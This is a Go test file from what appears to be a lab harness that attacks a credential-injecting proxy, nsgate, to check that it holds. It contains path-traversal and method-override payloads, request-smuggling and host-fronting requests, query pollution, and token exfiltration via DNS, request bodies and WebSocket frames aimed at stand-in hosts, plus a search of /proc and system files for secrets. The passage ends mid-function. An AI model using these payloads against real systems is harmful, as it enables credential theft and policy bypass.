package attack

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"context"
	"crypto"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"html"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// PhaseCredentials is the phase of the credential attempts (issue 24):
// one `nsgate run` of their own under a policy that terminates TLS for
// two fake upstreams the lab starts (CredAPIName, which a credential goes
// to, and CredOtherName, another approved terminated host) and names a
// credential whose secret, a canary only the lab's host side knows, lies
// in a file of the work directory. The worker holds the placeholder in
// CredPlaceholderEnv. The lab judges each attempt on what the worker saw,
// on what the fake upstreams received (no request but the allowed ones
// carries the secret, none carries the placeholder) and on the run's own
// audit log.
const PhaseCredentials = "credentials"

// CategoryCredentials is the category of the credential attempts.
const CategoryCredentials = "credentials"

// The credential phase's fake upstreams, its placeholder variable, where
// the secret lies (relative to the work directory) and its prefix.
const (
	CredAPIName        = "api.creds.test"
	CredAPIPort        = 9543 // HTTP/1.1 only: the h2-to-h1 smuggle aims at it
	CredOtherName      = "other.creds.test"
	CredOtherPort      = 9544 // h2 and HTTP/1.1
	CredLeakZone       = "leak.creds.test"
	CredPlaceholderEnv = "LAB_API_TOKEN"
	CredSecretFile     = "credentials/secret"
	CredSecretPrefix   = "labsecret-"
	// CredPlaceholderPrefix is how every placeholder nsgate makes begins.
	CredPlaceholderPrefix = "nsgph"
)

// CredConfusedPaths are the paths of creds-path-confusion: each matches
// the allowed glob /v1/** as written and names /admin (or another
// folder) once normalised by some parser.
var CredConfusedPaths = []string{
	"/v1/%2e%2e/admin",
	"/v1/..%2fadmin",
	"/v1/%2E%2E%2Fadmin",
	"/v1//../admin",
	"/v1/..;/admin",
	"/v1/ok;x=/../../admin",
	`/v1/..\admin`,
	"/v1/%5c..%5cadmin",
	"/v1/%c0%ae%c0%ae/admin",
	"/v1/%c0%af..%c0%afadmin",
}

// CredOverrideHeaders are the method-override headers of
// creds-method-override, each naming DELETE on an allowed GET: the three
// names, and one with '_' for '-', which a CGI-style server (Rack, PHP)
// reads as the same header.
var CredOverrideHeaders = []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X_HTTP_Method_Override"}

func credentialAttempts() []Attempt {
	ph := "the placeholder (" + CredPlaceholderEnv + ")"
	api := fmt.Sprintf("https://%s:%d", CredAPIName, CredAPIPort)
	other := fmt.Sprintf("https://%s:%d", CredOtherName, CredOtherPort)
	at := func(id, layer, desc string, audit AuditWant, run func(context.Context, *attacker) result) Attempt {
		a := Attempt{ID: id, Category: CategoryCredentials, Layer: layer, Phase: PhaseCredentials, Description: desc,
			Expect: Blocked, Audit: audit, Aims: []string{"creds-api", "creds-other"},
			HostCheck: "no request at the fake upstreams during the attempt, none carrying the secret or a placeholder", run: run}
		if audit == AuditDeny {
			a.Keys = []string{"cred:" + id}
		}
		return a
	}
	return []Attempt{
		{
			ID: "control-credentials", Category: "control", Layer: LayerControl, Phase: PhaseCredentials,
			Description: "GET " + api + "/v1/ok with Authorization: Bearer " + ph + ": allowed, and the upstream gets the real secret exactly once",
			Expect:      Allowed, Audit: AuditAllow, Aims: []string{"creds-api"},
			HostCheck: "the api upstream got exactly one request, carrying the secret in Authorization and no placeholder",
			run: func(ctx context.Context, a *attacker) result {
				s, hdr, body, err := a.credRequest(ctx, "GET", api+"/v1/ok", nil, nil, false)
				if err != nil {
					return blockedf("%v", err)
				}
				if s != 200 {
					return blockedf("HTTP %d (%s): %q", s, hdr.Get("X-Nsgate-Refusal"), body)
				}
				return allowedf("HTTP 200: %q", body)
			},
		},
		at("creds-other-host", LayerCredentials, "GET "+other+"/v1/ok (another approved, terminated host) with Authorization: Bearer "+ph, AuditDeny,
			credRefused("GET", other+"/v1/ok", nil, nil)),
		at("creds-in-body", LayerCredentials, "POST "+api+"/v1/upload (an allowed request) with "+ph+" in the body", AuditDeny,
			credRefused("POST", api+"/v1/upload", nil, []byte("note=exfil+"))),
		at("creds-in-query", LayerCredentials, "GET "+api+"/v1/ok?t= "+ph+" (an allowed path, the placeholder in the query)", AuditDeny,
			credRefused("GET", api+"/v1/ok?t=", nil, nil)),
		at("creds-in-dns", LayerCredentials, "resolve "+ph+"."+CredLeakZone+" (a name the policy approves, resolved upstream)", AuditDeny,
			func(ctx context.Context, a *attacker) result {
				p := os.Getenv(CredPlaceholderEnv)
				if p == "" {
					return erroredf("no placeholder in %s", CredPlaceholderEnv)
				}
				r := &net.Resolver{PreferGo: true}
				lctx, cancel := context.WithTimeout(ctx, a.cfg.Timeout)
				defer cancel()
				name := p + "." + CredLeakZone
				addrs, err := r.LookupHost(lctx, name)
				if err != nil {
					return blockedf("lookup refused: %v", err)
				}
				// nsgate answers an approved name with an address of its
				// own and resolves it upstream when a flow to it starts.
				c, err := a.dialer().DialContext(lctx, "tcp", net.JoinHostPort(name, "443"))
				if err == nil {
					c.Close()
				}
				return allowedf("resolved to %v; a connection to it: %v", addrs, err)
			}),
		{
			ID: "creds-read-source", Category: CategoryCredentials, Layer: LayerView, Phase: PhaseCredentials,
			Description: "read the secret's source file (" + CredSecretFile + " in the work directory, shown read-only), search /proc (every environ and cmdline), the environment, the home, /tmp, /run, /etc/ssl and the work directory for the secret's prefix " + CredSecretPrefix + " and for a PRIVATE KEY (the run CA's key)",
			Expect:      Blocked, Audit: AuditNone, Aims: []string{"creds-api", "creds-other"},
			HostCheck: "the worker found neither the secret nor a private key, and its report holds no secret",
			NoRecord:  "nothing reaches nsgate: the secret file is hidden in the view and nsgate's process and memory are outside the worker's PID namespace; the worker's search report and the host check are the evidence",
			run:       credReadSource,
		},
		withSetup(1, withHostCheck("the api upstream got exactly one request, with the secret in Authorization; what the worker read (the X-Echo header and the body) holds the placeholder and not the secret", at("creds-echo", LayerCredentials, "GET "+api+"/echo with Authorization: Bearer "+ph+": the upstream reflects the header (it got the secret) in a header and the body; the worker must see only the placeholder", AuditAllow,
			func(ctx context.Context, a *attacker) result {
				s, hdr, body, err := a.credRequest(ctx, "GET", api+"/echo", nil, nil, false)
				if err != nil {
					return erroredf("%v", err)
				}
				got := hdr.Get("X-Echo") + " | " + string(body)
				if strings.Contains(got, CredSecretPrefix) {
					return allowedf("HTTP %d, the echo carries the secret: %q", s, got)
				}
				if s != 200 || !strings.Contains(got, os.Getenv(CredPlaceholderEnv)) {
					return erroredf("HTTP %d, no echo of the placeholder: %q", s, got)
				}
				return blockedf("HTTP %d; the echo (header X-Echo and body) shows only the placeholder: %q", s, got)
			}))),
		at("creds-path-confusion", LayerRequests, "GET "+api+" on paths that match /v1/** as written but name another path once normalised: "+strings.Join(CredConfusedPaths, " "), AuditDeny,
			func(ctx context.Context, a *attacker) result {
				var reqs []string
				for _, p := range CredConfusedPaths {
					reqs = append(reqs, "GET "+p+" HTTP/1.1\r\nHost: "+CredAPIName+":"+strconv.Itoa(CredAPIPort)+"\r\nAuthorization: Bearer "+os.Getenv(CredPlaceholderEnv)+"\r\nConnection: close\r\n\r\n")
				}
				return a.credRawAll(ctx, CredAPIName, CredAPIPort, reqs)
			}),
		at("creds-method-override", LayerRequests, "GET "+api+"/v1/ok (allowed) with a method-override header naming DELETE: "+strings.Join(CredOverrideHeaders, ", "), AuditDeny,
			func(ctx context.Context, a *attacker) result {
				var reqs []string
				for _, h := range CredOverrideHeaders {
					reqs = append(reqs, "GET /v1/ok HTTP/1.1\r\nHost: "+CredAPIName+":"+strconv.Itoa(CredAPIPort)+"\r\nAuthorization: Bearer "+os.Getenv(CredPlaceholderEnv)+"\r\n"+h+": DELETE\r\nConnection: close\r\n\r\n")
				}
				return a.credRawAll(ctx, CredAPIName, CredAPIPort, reqs)
			}),
		{
			ID: "creds-h2-smuggle", Category: CategoryCredentials, Layer: LayerRequests, Phase: PhaseCredentials,
			Description: "h2 to " + CredAPIName + " (whose upstream speaks HTTP/1.1 only), three streams, each on a connection of its own: POST /v1/upload with transfer-encoding: chunked and a body holding a second request (GET /admin); a content-length shorter than the body; a header value with a CRLF and a second header line",
			Expect:      Blocked, Audit: AuditNone, Aims: []string{"creds-api", "creds-other"},
			HostCheck: "no request at the fake upstreams during the attempt (no /admin, no secret, no placeholder)",
			NoRecord:  "x/net/http2 resets a malformed stream (RST_STREAM PROTOCOL_ERROR) before nsgate's request handler sees a request, so there is no request to record; the worker's resets and the upstream's zero count are the evidence",
			run:       credH2Smuggle,
		},
		withSetup(2, withHostCheck("the api upstream got both requests with the secret in Authorization; the trailers the worker read hold the placeholder, not the secret", at("creds-echo-trailer", LayerCredentials, "GET "+api+"/echo-trailer twice with Authorization: Bearer "+ph+", the second also with Upgrade: websocket (which once turned the trailers' scrub off when the upstream did not switch): the upstream reflects the header in a declared trailer and an undeclared one, sent after the body", AuditAllow,
			credEcho(api+"/echo-trailer", []string{"", "Upgrade: websocket"}, 2)))),
		withSetup(1, withHostCheck("the api upstream got the request with the secret in Authorization; the 103 Early Hints headers the worker read hold the placeholder, not the secret", at("creds-echo-early-hints", LayerCredentials, "GET "+api+"/echo-103 with Authorization: Bearer "+ph+": the upstream reflects the header in a Link header of a 103 Early Hints response before its 200", AuditAllow,
			credEcho(api+"/echo-103", nil, 1)))),
		withSetup(1, withHostCheck("the api upstream got the request with the secret in Authorization; the worker got nsgate's 502, not the compressed echo", at("creds-echo-encoding", LayerCredentials, "GET "+api+"/echo-deflate with Authorization: Bearer "+ph+": the upstream answers with Content-Encoding: deflate (which nsgate did not ask for), the echo compressed where a scrub cannot see it; the worker inflates what it gets", AuditAllow,
			credEcho(api+"/echo-deflate", nil, 1)))),
		withSetup(2, withHostCheck("the api upstream got both requests with the secret in Authorization; neither answer is a part, and together they hold only the placeholder", at("creds-echo-range", LayerCredentials, "GET "+api+"/echo-doc twice with Authorization: Bearer "+ph+" and Range: bytes=0-15, then bytes=16-: an echo document fetched in two pieces that no scrub would recognise alone", AuditAllow,
			credEcho(api+"/echo-doc", []string{"bytes=0-15", "bytes=16-"}, 2)))),
		withSetup(1, withHostCheck("the api upstream got the request with the secret in Authorization; what the worker read, inflated and decoded (percent, HTML references, UTF-16), holds the placeholder, never the secret", at("creds-echo-encoded", LayerCredentials, "GET "+api+"/echo-encoded with Authorization: Bearer "+ph+": the upstream quotes the header percent-encoded, as HTML character references and in UTF-16, in a gzip body whose first Content-Encoding is empty (a check of the first value alone passes it); the worker inflates and decodes every form", AuditAllow,
			credEchoDecoded(api+"/echo-encoded")))),
		withSetup(1, withHostCheck("the api upstream got the request with the secret in Authorization; the body the worker read holds the placeholder in upper and lower case, never the secret in any case", at("creds-echo-case", LayerCredentials, "GET "+api+"/echo-case with Authorization: Bearer "+ph+": the upstream quotes the header upper-cased and lower-cased in its body, as an error page may; a scrub that matches the secret's own case alone lets both through", AuditAllow,
			credEcho(api+"/echo-case", nil, 1)))),
		at("creds-method-override-form", LayerRequests, "POST "+api+"/v1/upload (allowed; DELETE is not) with _method=DELETE where each framework that honours it looks: an application/x-www-form-urlencoded body and a multipart/form-data part (Rails, Laravel, Symfony), each also with malformed Content-Type parameters; a body without a Content-Type, a ';' between fields, a multipart/mixed body with the name in Content-ID and a boundary only Rack's greedy match picks (Rack); PHP's renamed .method in the body and the query, and a JSON body's _method (Laravel)", AuditDeny,
			func(ctx context.Context, a *attacker) result {
				forms := []struct{ name, query, ct, body string }{
					{"urlencoded", "", "application/x-www-form-urlencoded", "note=hi&_method=DELETE"},
					{"multipart", "", "multipart/form-data; boundary=lab", "--lab\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhi\r\n--lab\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--lab--\r\n"},
					// Malformed parameters, which a strict parse rejects
					// and a lenient server (Rack) reads as the form anyway.
					{"urlencoded, bad parameter", "", "application/x-www-form-urlencoded; charset", "note=hi&_method=DELETE"},
					{"multipart, bad parameter", "", "multipart/form-data; boundary=lab; x", "--lab\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--lab--\r\n"},
					// PHP ends a part at a bare LF before the delimiter,
					// where Go's parser reads on.
					{"multipart, a bare LF before the delimiter", "", "multipart/form-data; boundary=lab", "--lab\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhi\n--lab\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--lab--\r\n"},
					// Rack: a POST without a type is a form; Rack 2 splits
					// fields on ';'; multipart/mixed is parsed, a part
					// without a disposition named by its Content-ID, the
					// boundary the last "boundary=" in the header.
					{"no content type", "", "", "_method=DELETE"},
					{"';' between fields", "", "application/x-www-form-urlencoded", "note=hi;_method=DELETE"},
					{"multipart/mixed, Content-ID", "", "multipart/mixed; boundary=lab; x=\"boundary=rack\"", "--rack\r\nContent-ID: _method\r\n\r\nDELETE\r\n--rack--\r\n"},
					// PHP renames ".method" to "_method" (Laravel reads
					// the query's too), and Laravel reads JSON's.
					{"PHP .method", "", "application/x-www-form-urlencoded", ".method=DELETE"},
					{"PHP .method in the query", "?.method=DELETE", "text/plain", "hi"},
					{"JSON", "", "application/json", `{"note":"hi","_method":"DELETE"}`},
				}
				var parts []string
				for _, f := range forms {
					hdr := map[string]string{}
					if f.ct != "" {
						hdr["Content-Type"] = f.ct
					}
					s, h, b, err := a.credRequest(ctx, "POST", api+"/v1/upload"+f.query, hdr, []byte(f.body), false)
					switch {
					case err != nil:
						parts = append(parts, f.name+": "+err.Error())
					case s == 403 && h.Get("X-Nsgate-Refusal") != "":
						parts = append(parts, fmt.Sprintf("%s: 403 from nsgate: %q", f.name, firstLine(b)))
					default:
						return allowedf("%s: HTTP %d %q", f.name, s, b)
					}
				}
				return blockedf("%s", strings.Join(parts, "; "))
			}),
		at("creds-upgrade-tunnel", LayerRequests, "GET "+api+"/v1/tunnel (allowed) with Authorization: Bearer "+ph+" and Upgrade: tcp (Docker's attach) or SPDY/3.1 (Kubernetes' exec): after a 101 a proxy splices the streams raw, where no rule, leak check or scrub reads (the upstream echoes the header down the tunnel)", AuditDeny,
			func(ctx context.Context, a *attacker) result {
				var reqs []string
				for _, up := range []string{"tcp", "SPDY/3.1"} {
					reqs = append(reqs, "GET /v1/tunnel HTTP/1.1\r\nHost: "+CredAPIName+":"+strconv.Itoa(CredAPIPort)+"\r\nAuthorization: Bearer "+os.Getenv(CredPlaceholderEnv)+"\r\nConnection: Upgrade\r\nUpgrade: "+up+"\r\n\r\n")
				}
				return a.credRawAll(ctx, CredAPIName, CredAPIPort, reqs)
			}),
		withSetup(1, at("creds-query-pollution", LayerRequests, "GET "+api+"/search?q=repo:lab/app (allowed once: the rule's query is q matching repo:lab/*) with a second q that a lenient server reads in place of the first: after a ';' (Rack 2), in another case (ASP.NET), as an index, with a NUL or a leading space in its name (PHP)", AuditDeny,
			func(ctx context.Context, a *attacker) result {
				if s, _, b, err := a.credRequest(ctx, "GET", api+"/search?q=repo:lab/app", nil, nil, false); err != nil || s != 200 {
					return erroredf("the allowed query itself: HTTP %d %q %v (the attempt proves nothing)", s, firstLine(b), err)
				}
				var parts []string
				for _, q := range []struct{ name, query string }{
					{"';'", "q=repo:lab/app&z=1;q=repo:other"},
					{"case", "q=repo:lab/app&Q=repo:other"},
					{"index", "q=repo:lab/app&q%5B%5D=repo:other"},
					{"NUL", "q=repo:lab/app&q%00x=repo:other"},
					{"space", "q=repo:lab/app&+q=repo:other"},
				} {
					s, h, b, err := a.credRequest(ctx, "GET", api+"/search?"+q.query, nil, nil, false)
					switch {
					case err != nil:
						parts = append(parts, q.name+": "+err.Error())
					case s == 403 && h.Get("X-Nsgate-Refusal") != "":
						parts = append(parts, fmt.Sprintf("%s: 403 from nsgate", q.name))
					default:
						return allowedf("%s (%s): HTTP %d %q", q.name, q.query, s, firstLine(b))
					}
				}
				return blockedf("%s", strings.Join(parts, "; "))
			})),
		withSetup(1, withHostCheck("the api upstream got the upgrade (the secret in its Authorization) and no WebSocket message carrying the placeholder", at("creds-ws-placeholder", LayerCredentials, "a WebSocket to "+api+"/v1/ws (allowed; Authorization: Bearer "+ph+"), then a text message carrying "+ph+": nsgate must close with 1008 before the message reaches the upstream", AuditDeny,
			credWSPlaceholder))),
		at("creds-fronting", LayerL7, "TLS with SNI "+CredAPIName+" (terminated, holds the credential) and Host (HTTP/1.1) or :authority (h2) "+CredOtherName+", with Authorization: Bearer "+ph, AuditDeny,
			func(ctx context.Context, a *attacker) result {
				front := CredOtherName + ":" + strconv.Itoa(CredOtherPort)
				r := a.credRawAll(ctx, CredAPIName, CredAPIPort, []string{"GET /v1/ok HTTP/1.1\r\nHost: " + front + "\r\nAuthorization: Bearer " + os.Getenv(CredPlaceholderEnv) + "\r\nConnection: close\r\n\r\n"})
				if r.out != Blocked {
					return r
				}
				s, hdr, body, err := a.credRequest(ctx, "GET", api+"/v1/ok", map[string]string{"Host": front}, nil, true)
				switch {
				case err != nil:
					return blockedf("h1: %s; h2: %v", r.detail, err)
				case s == 403 && hdr.Get("X-Nsgate-Refusal") != "":
					return blockedf("h1: %s; h2: HTTP %d %q", r.detail, s, firstLine(body))
				}
				return allowedf("h1: %s; h2 :authority %s: HTTP %d %q", r.detail, front, s, body)
			}),
	}
}

// credWSPlaceholder runs creds-ws-placeholder: an HTTP/1.1 WebSocket
// upgrade to the api host with the placeholder in Authorization (the
// secret goes up, as for any allowed request), then one masked text frame
// that carries the placeholder. Blocked when nsgate closes with 1008
// (policy violation); through when the upstream's echo comes back.
func credWSPlaceholder(ctx context.Context, a *attacker) result {
	ph := os.Getenv(CredPlaceholderEnv)
	if ph == "" {
		return erroredf("no placeholder in %s", CredPlaceholderEnv)
	}
	tc, err := credTLS(CredAPIName, "http/1.1")
	if err != nil {
		return erroredf("%v", err)
	}
	dctx, cancel := context.WithTimeout(ctx, 2*a.cfg.Timeout)
	defer cancel()
	c, err := (&tls.Dialer{NetDialer: a.dialer(), Config: tc}).DialContext(dctx, "tcp", net.JoinHostPort(CredAPIName, strconv.Itoa(CredAPIPort)))
	if err != nil {
		return erroredf("dial: %v", err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * a.cfg.Timeout))
	io.WriteString(c, "GET /v1/ws HTTP/1.1\r\nHost: "+CredAPIName+":"+strconv.Itoa(CredAPIPort)+"\r\nAuthorization: Bearer "+ph+
		"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: bGFiLWtleS0wMTIzNDU2Nw==\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return erroredf("the upgrade: %v", err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols {
		return erroredf("the upgrade got HTTP %d, not 101", resp.StatusCode)
	}
	msg := []byte("exfil " + ph)
	mask := [4]byte{0x11, 0x22, 0x33, 0x44}
	frame := []byte{0x81, 0x80 | byte(len(msg))}
	frame = append(frame, mask[:]...)
	for i, b := range msg {
		frame = append(frame, b^mask[i%4])
	}
	if _, err := c.Write(frame); err != nil {
		return blockedf("the message could not be sent: %v", err)
	}
	var hdr [2]byte
	if _, err := io.ReadFull(br, hdr[:]); err != nil {
		return blockedf("the connection ended without an answer: %v", err)
	}
	n := int(hdr[1] & 0x7f)
	if n > 125 {
		return allowedf("a frame of opcode %#x came back (a long one): the message was relayed", hdr[0]&0x0f)
	}
	payload := make([]byte, n)
	io.ReadFull(br, payload)
	switch op := hdr[0] & 0x0f; {
	case op == 0x8 && n >= 2 && int(payload[0])<<8|int(payload[1]) == 1008:
		return blockedf("nsgate closed with 1008 (policy violation): %q", payload[2:])
	case op == 0x8:
		return blockedf("closed (payload %q)", payload)
	default:
		return allowedf("a frame of opcode %#x came back: %q", op, payload)
	}
}

// CredEchoPaths are the request paths of the echo attempts, by attempt:
// each is allowed (the secret goes up), and what comes back is judged.
var CredEchoPaths = map[string]string{
	"creds-echo":             "/echo",
	"creds-echo-trailer":     "/echo-trailer",
	"creds-echo-early-hints": "/echo-103",
	"creds-echo-encoding":    "/echo-deflate",
	"creds-echo-range":       "/echo-doc",
	"creds-echo-case":        "/echo-case",
	"creds-echo-encoded":     "/echo-encoded",
}

// EncodeEvery writes every byte of s but letters and digits with format
// (the lab upstream's encoded echoes: "%%%02X", "&#%d;").
func EncodeEvery(s, format string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if c := s[i]; 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, format, c)
		}
	}
	return b.String()
}

// UTF16LE is ASCII s in UTF-16, little-endian.
func UTF16LE(s string) string {
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return string(b)
}

// credEcho is an echo attempt: GET u (once per range, with that Range
// header; nil: once without) with the placeholder in Authorization,
// reading everything that comes back: 1xx headers, headers, the body
// (inflated when it says deflate) and trailers. It got through when any
// of it, or all the bodies together, hold the secret; it is blocked when
// the placeholder came back in its place or nsgate refused the answer
// (a 502 naming the upstream).
func credEcho(u string, ranges []string, want int) func(context.Context, *attacker) result {
	return func(ctx context.Context, a *attacker) result {
		if ranges == nil {
			ranges = []string{""}
		}
		var all strings.Builder
		var statuses []string
		for _, rg := range ranges {
			st, seen, err := a.credFetchAll(ctx, u, rg)
			if err != nil {
				return erroredf("%v", err)
			}
			statuses = append(statuses, strconv.Itoa(st))
			all.WriteString(seen)
		}
		got := all.String()
		ph := os.Getenv(CredPlaceholderEnv)
		switch {
		case strings.Contains(strings.ToLower(got), CredSecretPrefix):
			i := strings.Index(strings.ToLower(got), CredSecretPrefix)
			return allowedf("HTTP %s; what came back holds the secret (%s…) after %q", strings.Join(statuses, ","), CredSecretPrefix, got[max(0, i-40):i])
		case len(statuses) == want && strings.Contains(strings.ToLower(got), ph):
			return blockedf("HTTP %s; what came back shows only the placeholder", strings.Join(statuses, ","))
		case strings.Contains(strings.Join(statuses, ","), "502") && strings.Contains(got, "nsgate"):
			return blockedf("HTTP %s from nsgate: %q", strings.Join(statuses, ","), firstLine([]byte(got)))
		}
		return erroredf("HTTP %s; no echo of the placeholder and no refusal: %q", strings.Join(statuses, ","), got)
	}
}

// jsonUnescape decodes the \uXXXX and \/ escapes of JSON strings in s.
func jsonUnescape(s string) string {
	s = strings.ReplaceAll(s, `\/`, "/")
	return jsonEscapeRE.ReplaceAllStringFunc(s, func(m string) string {
		n, _ := strconv.ParseUint(m[2:], 16, 32)
		return string(rune(n))
	})
}

var jsonEscapeRE = regexp.MustCompile(`\\u[0-9a-fA-F]{4}`)

// credEchoDecoded is an echo attempt whose echo comes encoded: GET u with
// the placeholder in Authorization, then what came back inflated (when it
// is gzip, whatever its headers say) and decoded as a client would
// (percent-encoding, HTML character references, UTF-16) is searched for
// the secret.
func credEchoDecoded(u string) func(context.Context, *attacker) result {
	return func(ctx context.Context, a *attacker) result {
		st, seen, err := a.credFetchAll(ctx, u, "")
		if err != nil {
			return erroredf("%v", err)
		}
		got := seen
		if i := strings.Index(seen, "\x1f\x8b"); i >= 0 {
			if zr, err := gzip.NewReader(strings.NewReader(seen[i:])); err == nil {
				if b, err := io.ReadAll(zr); err == nil || len(b) > 0 {
					got += string(b)
				}
			}
		}
		decoded := got + "\n" + html.UnescapeString(got) + "\n" + strings.ReplaceAll(got, "\x00", "") + "\n" + jsonUnescape(got)
		for _, l := range strings.Split(got, "\n") {
			if p, err := url.QueryUnescape(l); err == nil {
				decoded += "\n" + p
			}
		}
		ph := os.Getenv(CredPlaceholderEnv)
		switch low := strings.ToLower(decoded); {
		case strings.Contains(low, CredSecretPrefix):
			i := strings.Index(low, CredSecretPrefix)
			return allowedf("HTTP %d; decoded, what came back holds the secret (%s…) after %q", st, CredSecretPrefix, decoded[max(0, i-30):i])
		case st == 200 && strings.Contains(low, ph):
			return blockedf("HTTP 200; decoded, what came back shows only the placeholder")
		case st == 502 && strings.Contains(got, "nsgate"):
			return blockedf("HTTP 502 from nsgate: %q", firstLine([]byte(got)))
		}
		return erroredf("HTTP %d; no echo of the placeholder and no refusal: %q", st, got)
	}
}

// credFetchAll makes one HTTP/1.1 request (rng: its Range header, "" for
// none) and returns the status and, as text, every header of every
// response (1xx included), the body and the trailers.
func (a *attacker) credFetchAll(ctx context.Context, u, rng string) (int, string, error) {
	tc, err := credTLS("")
	if err != nil {
		return 0, "", err
	}
	rt := &http.Transport{TLSClientConfig: tc, DialContext: a.dialer().DialContext, DisableCompression: true, TLSNextProto: map[string]func(string, *tls.Conn) http.RoundTripper{}}
	defer rt.CloseIdleConnections()
	rctx, cancel := context.WithTimeout(ctx, 2*a.cfg.Timeout)
	defer cancel()
	var seen strings.Builder
	rctx = httptrace.WithClientTrace(rctx, &httptrace.ClientTrace{Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
		fmt.Fprintf(&seen, "%d %v\n", code, h)
		return nil
	}})
	req, err := http.NewRequestWithContext(rctx, "GET", u, nil)
	if err != nil {
		return 0, "", err
	}
	req.Header.Set("Authorization", "Bearer "+os.Getenv(CredPlaceholderEnv))
	if k, v, ok := strings.Cut(rng, ": "); ok {
		req.Header.Set(k, v) // a header of the attempt's own, not a range
	} else if rng != "" {
		req.Header.Set("Range", rng)
	}
	resp, err := rt.RoundTrip(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	var body io.Reader = io.LimitReader(resp.Body, 64<<10)
	if strings.EqualFold(resp.Header.Get("Content-Encoding"), "deflate") {
		body = flate.NewReader(body)
	}
	b, _ := io.ReadAll(body)
	fmt.Fprintf(&seen, "%d %v\n%s\n%v\n", resp.StatusCode, resp.Header, b, resp.Trailer)
	return resp.StatusCode, seen.String(), nil
}

// LayerCredentials (placeholders substituted only where allowed, refused
// elsewhere, echoes scrubbed) and LayerRequests (the request rules on
// terminated flows, after path normalisation) are the credential
// attempts' layers.
const (
	LayerCredentials = "credentials"
	LayerRequests    = "request-rules"
)

func withHostCheck(check string, a Attempt) Attempt {
	a.HostCheck = check
	return a
}

// withSetup marks n requests of the attempt as allowed on purpose, each
// carrying the secret (Attempt.SetupHits): an echo, a WebSocket upgrade.
func withSetup(n int, a Attempt) Attempt {
	a.SetupHits = n
	return a
}

func firstLine(b []byte) string {
	s, _, _ := strings.Cut(string(b), "\n")
	return s
}

// credRefused is an attempt that sends the placeholder where it may not
// go: Authorization for every request, the body's tail, the query's
// value. It is blocked when nsgate answers with its refusal.
func credRefused(method, u string, hdr map[string]string, body []byte) func(context.Context, *attacker) result {
	return func(ctx context.Context, a *attacker) result {
		p := os.Getenv(CredPlaceholderEnv)
		if p == "" {
			return erroredf("no placeholder in %s", CredPlaceholderEnv)
		}
		if strings.HasSuffix(u, "=") {
			u += p
		}
		if body != nil {
			body = append(append([]byte(nil), body...), p...)
		}
		s, h, b, err := a.credRequest(ctx, method, u, hdr, body, false)
		switch {
		case err != nil:
			return blockedf("%v", err)
		case s == 403 && h.Get("X-Nsgate-Refusal") != "":
			return blockedf("HTTP 403 from nsgate: %q", firstLine(b))
		}
		return allowedf("HTTP %d: %q", s, b)
	}
}

// credTLS is the worker's TLS configuration: the system bundle of its
// view (which trusts the run's CA) and no other flag.
func credTLS(name string, protos ...string) (*tls.Config, error) {
	roots, err := x509.SystemCertPool()
	if err != nil {
		return nil, err
	}
	return &tls.Config{ServerName: name, RootCAs: roots, NextProtos: protos}, nil
}

// credRequest makes one request with Authorization: Bearer placeholder
// (over h2 when h2 is set, else HTTP/1.1), verified against the view's
// system bundle; hdr "Host" sets the Host or :authority.
func (a *attacker) credRequest(ctx context.Context, method, u string, hdr map[string]string, body []byte, h2 bool) (int, http.Header, []byte, error) {
	tc, err := credTLS("")
	if err != nil {
		return 0, nil, nil, err
	}
	var rt http.RoundTripper
	if h2 {
		rt = &http2.Transport{TLSClientConfig: tc, DialTLSContext: func(ctx context.Context, network, addr string, cfg *tls.Config) (net.Conn, error) {
			return (&tls.Dialer{NetDialer: a.dialer(), Config: cfg}).DialContext(ctx, network, addr)
		}}
	} else {
		rt = &http.Transport{TLSClientConfig: tc, DialContext: a.dialer().DialContext, ForceAttemptHTTP2: false, TLSNextProto: map[string]func(string, *tls.Conn) http.RoundTripper{}}
	}
	rctx, cancel := context.WithTimeout(ctx, 2*a.cfg.Timeout)
	defer cancel()
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequestWithContext(rctx, method, u, rd)
	if err != nil {
		return 0, nil, nil, err
	}
	req.Header.Set("Authorization", "Bearer "+os.Getenv(CredPlaceholderEnv))
	for k, v := range hdr {
		if k == "Host" {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	resp, err := rt.RoundTrip(req)
	if err != nil {
		return 0, nil, nil, err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return resp.StatusCode, resp.Header, bytes.TrimSpace(b), nil
}

// credRawAll sends each raw HTTP/1.1 request on a TLS connection of its
// own (SNI name) and is blocked when every one got nsgate's 403.
func (a *attacker) credRawAll(ctx context.Context, name string, port int, reqs []string) result {
	tc, err := credTLS(name, "http/1.1")
	if err != nil {
		return erroredf("%v", err)
	}
	var refused, through []string
	for _, req := range reqs {
		line, _, _ := strings.Cut(req, "\r\n")
		line = strings.ReplaceAll(line, os.Getenv(CredPlaceholderEnv), "PLACEHOLDER")
		status, refusal, err := a.rawTLSStatus(ctx, net.JoinHostPort(name, strconv.Itoa(port)), tc, req)
		switch {
		case err != nil:
